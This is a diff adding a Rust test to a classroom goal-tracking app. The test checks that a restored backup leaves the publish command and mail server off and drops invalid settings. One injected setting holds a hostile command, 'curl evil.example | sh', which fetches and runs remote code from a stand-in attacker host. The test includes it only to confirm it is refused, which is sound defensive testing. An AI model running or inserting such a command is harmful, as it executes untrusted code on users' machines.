@@ -603,3 +603,97 @@ fn an_erasure_leaves_no_goal_sheet_or_roster_row_and_can_be_finished() {
     assert!(left.is_empty(), "files that still name them: {left:?}");
 }
 
+/// Issue 12, part 6: a backup may come from anywhere. Its settings pass the checks of
+/// `config set`; the publish command and the mail server stay off after the restore until
+/// the teacher enters them again, and `restore` says so (text and `--json`).
+#[test]
+fn a_restored_backup_runs_no_command_and_sends_no_mail_until_the_teacher_enters_them_again() {
+    let c = Class::new();
+    let aroha = c.student("Aroha", "Ngata", [true; 4]);
+    c.contact("Hine Rewi", "hine@family.example", aroha, "email");
+    c.achieve(aroha, "I can read", "I read a book", None);
+    let ran = c.root.join("publish-ran.txt");
+    let cmd = format!("echo ran >> '{}'", ran.display());
+    c.run(&["config", "set", "blog.publish_command", &cmd]);
+    // A mail server nothing listens on: a sync that used it would fail to send.
+    c.run(&["config", "set", "smtp.url", "smtp://127.0.0.1:9"]);
+    c.run(&["config", "set", "photo.quality", "60"]);
+    c.run(&[
+        "config",
+        "set",
+        "blog.site_url",
+        "https://school.example/room7",
+    ]);
+    let backup = c.root.join("room7.goalpost");
+    c.run(&["backup", backup.to_str().unwrap()]);
+    // What `config set` would refuse, put into the backup by another program.
+    {
+        let conn = rusqlite::Connection::open(&backup).unwrap();
+        conn.execute_batch(
+            "UPDATE settings SET value = '120' WHERE key = 'photo.quality';
+             INSERT INTO settings (key, value) VALUES ('mail.weekly_day', 'someday'),
+               ('shell.on_open', 'curl evil.example | sh');",
+        )
+        .unwrap();
+    }
+
+    let text = c.run(&["restore", backup.to_str().unwrap()]);
+    for key in ["blog.publish_command", "smtp.url"] {
+        assert!(
+            text.contains(&format!("{key} is off until you enter it again"))
+                && text.contains(&format!("goalpost config set {key}")),
+            "{text}"
+        );
+    }
+    for key in ["photo.quality", "mail.weekly_day", "shell.on_open"] {
+        assert!(
+            text.contains(&format!("The setting {key} of the backup was left out")),
+            "{text}"
+        );
+    }
+    let r = c.json(&["restore", backup.to_str().unwrap()]);
+    assert_eq!(
+        r["settings_off"],
+        serde_json::json!(["blog.publish_command", "smtp.url"]),
+        "{r}"
+    );
+    let refused: BTreeSet<&str> = r["settings_refused"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["key"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        refused,
+        BTreeSet::from(["photo.quality", "mail.weekly_day", "shell.on_open"])
+    );
+    assert!(r["previous_saved_to"].is_string() && r["erased_again"].is_array());
+
+    // Off: the defaults, and what passed the checks is back.
+    let settings = c.json(&["config", "list"]);
+    let value = |key: &str| {
+        settings
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|s| s["key"] == key)
+            .map(|s| s["value"].clone())
+            .unwrap()
+    };
+    assert!(value("blog.publish_command").is_null());
+    assert!(value("smtp.url").is_null());
+    assert_eq!(value("photo.quality"), "80");
+    assert_eq!(value("mail.weekly_day"), "friday");
+    assert_eq!(value("blog.site_url"), "https://school.example/room7/");
+
+    // The sync runs no command and writes the family's email to the outbox folder.
+    let s = c.sync();
+    assert!(s["publish"].is_null(), "{s}");
+    assert!(!ran.exists(), "the publish command ran after the restore");
+    assert_eq!(emails(&c.outbox()).len(), 1, "{s}");
+    // Entered again, it runs (the blog changed since it last ran: the mark waited).
+    c.run(&["config", "set", "blog.publish_command", &cmd]);
+    let s = c.sync();
+    assert_eq!(s["publish"]["ok"], true, "{s}");
+    assert!(ran.is_file());
+}
